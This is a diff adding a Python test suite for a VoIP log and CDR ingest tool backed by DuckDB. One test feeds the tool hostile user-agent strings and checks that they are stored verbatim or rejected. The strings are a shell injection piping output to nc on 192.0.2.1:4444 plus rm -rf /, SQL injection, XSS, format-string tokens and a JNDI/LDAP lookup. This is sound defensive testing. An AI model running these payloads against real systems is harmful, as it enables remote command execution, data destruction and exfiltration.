@@ -1,0 +1,221 @@
+"""Backfill ingest on real files into a real DuckDB file: every line accounted for, exactly once."""
+
+from __future__ import annotations
+
+import gzip
+import json
+import random
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+
+import duckdb
+from fraudwatch.config import IngestConfig
+from fraudwatch.formats.registry import Format
+from fraudwatch.ingest import FileSummary, Ingestor
+from fraudwatch.store.db import Store
+from tests.conftest import Run
+
+
+def sip_lines(n: int, start: int = 0) -> list[str]:
+    out = []
+    for i in range(start, start + n):
+        ts = f"2026-11-20 03:{(i // 60) % 60:02d}:{i % 60:02d}.{i % 1000:03d}"
+        ip = f"198.51.100.{i % 250 + 1}"
+        match i % 4:
+            case 0:
+                out.append(f'{ts} [INFO] RECV REGISTER from {ip}:5060 user="{1000 + i}" callid="c{i}" ua="UA {i}"')
+            case 1:
+                out.append(f'{ts} [INFO] SEND 401 Unauthorized to {ip}:5060 method=REGISTER user="{i}" callid="c{i}"')
+            case 2:
+                out.append(f"{ts} [DEBUG] timer T1 fired for transaction z9hG4bK{i}")
+            case _:
+                out.append(f'{ts} [INFO] SEND 200 OK to {ip}:5060 method=REGISTER user="{i}" callid="c{i}" expires=60')
+    return out
+
+
+def write(path: Path, lines: list[str], mode: str = "w") -> None:
+    with path.open(mode, encoding="utf-8") as f:
+        f.write("".join(line + "\n" for line in lines))
+
+
+def ingest(db: Path, formats: dict[str, Format], path: Path, fmt: str | None = "vos3000-sipproxy",
+           options: IngestConfig | None = None) -> FileSummary:
+    with Store(db) as store:
+        s = Ingestor(store, formats, options).ingest(path, fmt)
+    assert s.error is None, s.error
+    assert s.parsed + s.counts.ignored + s.counts.rejected == s.lines
+    return s
+
+
+def count(db: Path, sql: str) -> int:
+    con = duckdb.connect(str(db), read_only=True)
+    try:
+        return int(con.execute(sql).fetchall()[0][0])
+    finally:
+        con.close()
+
+
+def test_counts_add_up_and_a_second_ingest_adds_nothing(tmp_path: Path, db: Path, formats: dict[str, Format]) -> None:
+    log = tmp_path / "sipproxy.log"
+    write(log, sip_lines(1000))
+    first = ingest(db, formats, log)
+    assert (first.lines, first.parsed, first.counts.ignored, first.counts.rejected) == (1000, 750, 250, 0)
+    assert dict(first.counts.parsed) == {"request": 250, "response": 500}
+    again = ingest(db, formats, log)
+    assert (again.lines, again.parsed) == (0, 0)
+    assert count(db, "SELECT count(*) FROM sip_events") == 750
+    assert count(db, "SELECT count(DISTINCT id) FROM sip_events") == 750
+
+
+def test_grown_file_adds_only_the_new_part_and_waits_for_a_partial_line(
+        tmp_path: Path, db: Path, formats: dict[str, Format]) -> None:
+    log = tmp_path / "sipproxy.log"
+    write(log, sip_lines(10))
+    ingest(db, formats, log)
+    tail = sip_lines(3, start=10)
+    with log.open("a") as f:
+        f.write(tail[0] + "\n" + tail[1][:20])  # a line half written
+    grown = ingest(db, formats, log)
+    assert grown.lines == 1 and grown.pending_bytes == 20
+    with log.open("a") as f:
+        f.write(tail[1][20:] + "\n" + tail[2] + "\n")
+    rest = ingest(db, formats, log)
+    assert rest.lines == 2 and rest.pending_bytes == 0
+    assert count(db, "SELECT count(*) FROM sip_events") == 13 - 3  # i = 2, 6, 10 are DEBUG lines (ignored)
+    assert count(db, "SELECT max(line_no) FROM sip_events") == 13
+    assert count(db, "SELECT count(*) FROM sip_events WHERE call_id = 'c11' AND line_no = 12") == 1
+
+
+def test_renamed_or_compressed_copy_is_not_read_twice(tmp_path: Path, db: Path, formats: dict[str, Format]) -> None:
+    log = tmp_path / "sipproxy.log"
+    write(log, sip_lines(5000))
+    ingest(db, formats, log)
+    rotated = tmp_path / "sipproxy.log.1"
+    log.rename(rotated)
+    assert ingest(db, formats, rotated).lines == 0
+    with rotated.open("rb") as src, gzip.open(tmp_path / "sipproxy.log.1.gz", "wb") as dst:
+        shutil.copyfileobj(src, dst)
+    assert ingest(db, formats, tmp_path / "sipproxy.log.1.gz").lines == 0
+    assert count(db, "SELECT count(*) FROM sip_events") == 3750
+
+
+def test_gzip_file_is_read_whole(tmp_path: Path, db: Path, formats: dict[str, Format]) -> None:
+    path = tmp_path / "old.log.gz"
+    with gzip.open(path, "wt", encoding="utf-8") as f:
+        f.write("\n".join(sip_lines(400)))  # no newline after the last line: a compressed file is complete
+    s = ingest(db, formats, path)
+    assert (s.lines, s.parsed) == (400, 300)
+
+
+def test_chunk_boundaries_do_not_change_the_result(tmp_path: Path, formats: dict[str, Format]) -> None:
+    log = tmp_path / "sipproxy.log"
+    lines = sip_lines(300)
+    lines[77] = "garbage line"
+    write(log, lines)
+    tiny = IngestConfig(chunk_bytes=97, max_line_bytes=4096, max_raw_bytes=4096)
+    ingest(tmp_path / "a.duckdb", formats, log, options=tiny)
+    ingest(tmp_path / "b.duckdb", formats, log)
+    q = "SELECT list(struct_pack(line_no, byte_offset, call_id, src_ip, ts) ORDER BY line_no)::VARCHAR FROM sip_events"
+    a = duckdb.connect(str(tmp_path / "a.duckdb"), read_only=True).execute(q).fetchall()
+    b = duckdb.connect(str(tmp_path / "b.duckdb"), read_only=True).execute(q).fetchall()
+    assert a == b
+    raw = log.read_bytes()
+    row = duckdb.connect(str(tmp_path / "a.duckdb"), read_only=True).execute(
+        "SELECT line_no, byte_offset, raw FROM rejects").fetchall()
+    assert row == [(78, raw.index(b"garbage line"), "garbage line")]
+
+
+def test_hostile_input_is_rejected_with_reasons_or_stored_verbatim(
+        tmp_path: Path, db: Path, cli: Callable[..., Run]) -> None:
+    rng = random.Random(7)
+    evil_uas = ['$(reboot); `id` | nc 192.0.2.1 4444 && rm -rf / #',
+                "'; DROP TABLE sip_events; --",
+                '<script>alert("x")</script><img src=x onerror=alert(1)>',
+                '%s%n%x {{7*7}} ${jndi:ldap://192.0.2.1/a} \\x00 \u202e\u0000']
+    good = sip_lines(4)
+    chunks = [line.encode() + b"\n" for line in good]
+    for ua in evil_uas:
+        line = f'2026-11-20 04:00:00.000 [INFO] RECV OPTIONS from 192.0.2.9:5060 callid="e" ua="{ua}"'
+        chunks.append(line.encode("utf-8") + b"\n")
+    chunks.append(bytes(rng.randrange(256) for _ in range(5000)).replace(b"\n", b"") + b"\n")  # binary noise
+    bad_utf8 = b"2026-11-20 04:00:00.000 [INFO] RECV REGISTER from 192.0.2.9:5060 ua=\"\xc3\x28\"\n"
+    chunks.append(bad_utf8)
+    chunks.append(b"A" * (10 << 20) + b"\n")  # a 10 MB line
+    chunks.append(b"\x00\x00\x00\n")
+    chunks.extend(line.encode() + b"\n" for line in sip_lines(4, start=4))
+    log = tmp_path / "sipproxy.log"
+    log.write_bytes(b"".join(chunks))
+
+    run = cli("--db", db, "ingest", "--format", "vos3000-sipproxy", "--json", log)
+    assert run.code == 0, run.err
+    summary = json.loads(run.out)["files"][0]
+    total = len(chunks)
+    assert summary["lines"] == total
+    assert summary["parsed"] + summary["ignored"] + summary["rejected"] == total
+    con = duckdb.connect(str(db), read_only=True)
+    stored = {r[0] for r in con.execute("SELECT user_agent FROM sip_events WHERE method = 'OPTIONS'").fetchall()}
+    nul_ua = evil_uas[3]
+    assert stored == {ua for ua in evil_uas if "\x00" not in ua}  # stored verbatim, as data
+    reasons = dict(con.execute("SELECT line_no, reason FROM rejects").fetchall())
+    at = bad_utf8.index(b"\xc3")
+    assert reasons[4 + 4 + 2] == f"invalid UTF-8 at byte {at}"
+    assert reasons[4 + 4 + 3] == f"line too long ({10 << 20} bytes)"
+    assert reasons[4 + 4 + 4] == "NUL byte in line"
+    assert reasons[4 + 4 + 1].startswith(("invalid UTF-8", "NUL byte", "no pattern"))  # the binary noise
+    assert reasons[4 + 4] == "NUL byte in line"  # the user-agent carrying a NUL: refused, kept in rejects
+    raw_nul = con.execute("SELECT raw FROM rejects WHERE line_no = 8").fetchall()[0][0]
+    assert "\\x00" in raw_nul and nul_ua.replace("\x00", "\\x00") in raw_nul
+    assert con.execute("SELECT max(strlen(raw)) FROM rejects").fetchall()[0][0] <= 4096 * 4
+    assert con.execute("SELECT count(*) FROM sip_events").fetchall()[0][0] == 3 + 3 + 3  # 2 good+1, 3 evil, ...
+    con.close()
+
+
+def test_folder_with_mixed_files_detects_each_format(tmp_path: Path, db: Path, cli: Callable[..., Run]) -> None:
+    folder = tmp_path / "logs"
+    (folder / "cdr").mkdir(parents=True)
+    write(folder / "sipproxy.log", sip_lines(40))
+    (folder / "cdr" / "e_cdr_20261120.csv").write_text(
+        "flowno,starttime,stoptime,calleee164,callerip,fee,customeraccount\n"
+        "1,1763607600000,1763607662000,0044,198.51.100.7,0.5,10001\n", encoding="utf-8")
+    (folder / "customers.csv").write_text("account,name,money,limitmoney\n10001,A,5,1\n", encoding="utf-8")
+    run = cli("--db", db, "ingest", "--json", folder)
+    assert run.code == 0, run.err
+    got = {Path(f["path"]).name: (f["format"], f["parsed"]) for f in json.loads(run.out)["files"]}
+    assert got == {"sipproxy.log": ("vos3000-sipproxy", 30), "e_cdr_20261120.csv": ("vos3000-cdr", 1),
+                   "customers.csv": ("vos3000-customers", 1)}
+
+
+def test_cdr_csv_grows_overlaps_and_uses_chinese_gb18030_labels(
+        tmp_path: Path, db: Path, formats: dict[str, Format]) -> None:
+    cdr = tmp_path / "e_cdr_20261120.csv"
+    header = "flowno,starttime,stoptime,holdtime,fee,customeraccount,calleee164,callerip\n"
+    rows = [f"{i},{1763607600000 + i * 1000},{1763607660000 + i * 1000},60,0.25,10001,00447700900{i:03d},198.51.100.7\n"
+            for i in range(1, 6)]
+    cdr.write_text(header + "".join(rows[:3]), encoding="utf-8")
+    assert ingest(db, formats, cdr, None).parsed == 3
+    cdr.write_text(header + "".join(rows), encoding="utf-8")
+    grown = ingest(db, formats, cdr, None)
+    assert (grown.lines, grown.parsed) == (2, 2)
+    overlap = tmp_path / "export-again.csv"  # another export covering rows 4..5 plus a new one
+    overlap.write_text(header + rows[3] + rows[4] + rows[4].replace("5,", "6,", 1), encoding="utf-8")
+    s = ingest(db, formats, overlap, None)
+    assert (s.parsed, s.counts.ignored) == (1, 2)
+    zh = tmp_path / "导出.csv"
+    zh.write_bytes("序列号,起始时间,终止时间,被叫号码,主叫号码,通话费用\n9,2026-11-20 08:00:00,2026-11-20 08:01:00,8613800138000,1001,1.25\n"
+                   .encode("gb18030"))
+    s = ingest(db, formats, zh, None)
+    assert (s.format, s.parsed) == ("vos3000-cdr", 1)
+    assert count(db, "SELECT count(*) FROM cdrs") == 7
+    assert count(db, "SELECT count(*) FROM cdrs WHERE flowno = 9 AND fee = 1.25 AND callee_e164 = '8613800138000' "
+                     "AND start_time = TIMESTAMPTZ '2026-11-20 08:00:00+00'") == 1
+
+
+def test_unreadable_and_missing_paths_are_one_line_errors(tmp_path: Path, db: Path, cli: Callable[..., Run]) -> None:
+    run = cli("--db", db, "ingest", tmp_path / "nope.log")
+    assert run.code != 0 and run.err.count("\n") == 1 and "no such file" in run.err
+    corrupt = tmp_path / "old.log.gz"
+    corrupt.write_bytes(b"this is not gzip data\n")
+    run = cli("--db", db, "ingest", "--format", "vos3000-sipproxy", corrupt)
+    assert run.code == 1 and "Not a gzipped file" in run.err and "Traceback" not in run.out + run.err
+    assert run.err.count("\n") == 1
